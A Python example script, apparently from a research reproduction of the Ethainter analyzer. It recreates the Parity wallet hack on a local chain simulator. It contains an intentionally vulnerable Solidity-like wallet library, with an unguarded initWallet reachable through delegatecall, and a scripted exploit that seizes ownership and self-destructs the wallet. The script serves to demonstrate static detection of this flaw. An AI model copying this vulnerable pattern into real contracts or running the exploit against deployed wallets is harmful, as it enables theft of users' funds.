"""The Parity wallet hack shape (§1, §6.2), end to end.

A thin Wallet proxy delegates its logic to a shared WalletLibrary.  The
library's ``initWallet`` is public and unguarded — the $280M bug: anyone can
call it *through the proxy*, and because ``delegatecall`` executes the
library's code against the *wallet's* storage, the attacker becomes the
wallet's owner, then drains/destroys it.

The paper notes "Ethainter correctly flags the Parity hack": the library
bytecode exhibits tainted-owner + accessible/tainted selfdestruct.  This
script shows both the static findings and the live exploit on the chain
simulator.

Run with::

    python examples/parity_hack.py
"""

from repro import api, compile_source
from repro.chain import Blockchain
from repro.minisol.abi import decode_word

WALLET_LIBRARY = """
contract WalletLibrary {
    address walletOwner;
    uint256 dailyLimit;

    function initWallet(address newOwner, uint256 limit) public {
        walletOwner = newOwner;
        dailyLimit = limit;
    }

    function execute(address to, uint256 amount) public {
        require(msg.sender == walletOwner);
        transfer(to, amount);
    }

    function kill(address beneficiary) public {
        require(msg.sender == walletOwner);
        selfdestruct(beneficiary);
    }
}
"""

# The proxy keeps its library address *after* the owner/limit slots so the
# delegatecalled library writes land on the wallet's owner slot, exactly as
# in the original incident.
WALLET_PROXY = """
contract Wallet {
    address walletOwner;
    uint256 dailyLimit;
    address lib;

    constructor(address library) { lib = library; }

    function init(address newOwner, uint256 limit) public {
        delegatecall(lib, "initWallet(address,uint256)", newOwner, limit);
    }
    function run(address to, uint256 amount) public {
        delegatecall(lib, "execute(address,uint256)", to, amount);
    }
    function close(address beneficiary) public {
        delegatecall(lib, "kill(address)", beneficiary);
    }
}
"""


def main() -> None:
    chain = Blockchain()
    deployer, victim_user, attacker = 0xD00D, 0x900D, 0xBAD
    for account in (deployer, victim_user, attacker):
        chain.fund(account, 10**18)

    library = compile_source(WALLET_LIBRARY)
    library_address = chain.deploy(deployer, library.init_with_args()).contract_address
    proxy = compile_source(WALLET_PROXY)
    wallet_address = chain.deploy(
        victim_user, proxy.init_with_args(library_address)
    ).contract_address

    # The legitimate user initializes their wallet and deposits funds.
    chain.transact(victim_user, wallet_address, proxy.calldata("init", victim_user, 100))
    chain.transact(victim_user, wallet_address, b"", value=10**17)
    print(
        "wallet at 0x%040x initialized by 0x%x, balance %d wei"
        % (wallet_address, victim_user, chain.state.get_balance(wallet_address))
    )
    print("wallet owner slot: 0x%x" % chain.state.get_storage(wallet_address, 0))

    # Static analysis of the library flags the whole class.
    result = api.analyze(library.runtime)
    print("\nEthainter on WalletLibrary:")
    for warning in sorted({w.kind for w in result.warnings}):
        print("  [%s]" % warning)

    # The attack: re-initialize the wallet through the proxy, then destroy.
    print("\nattacker 0x%x re-initializes the wallet through the proxy ..." % attacker)
    chain.transact(attacker, wallet_address, proxy.calldata("init", attacker, 10**30))
    print("wallet owner slot now: 0x%x" % chain.state.get_storage(wallet_address, 0))
    balance_before = chain.state.get_balance(attacker)
    receipt = chain.transact(attacker, wallet_address, proxy.calldata("close", attacker))
    print(
        "close() succeeded=%s, wallet destroyed=%s, attacker gained %d wei"
        % (
            receipt.success,
            chain.state.is_destroyed(wallet_address),
            chain.state.get_balance(attacker) - balance_before,
        )
    )


if __name__ == "__main__":
    main()
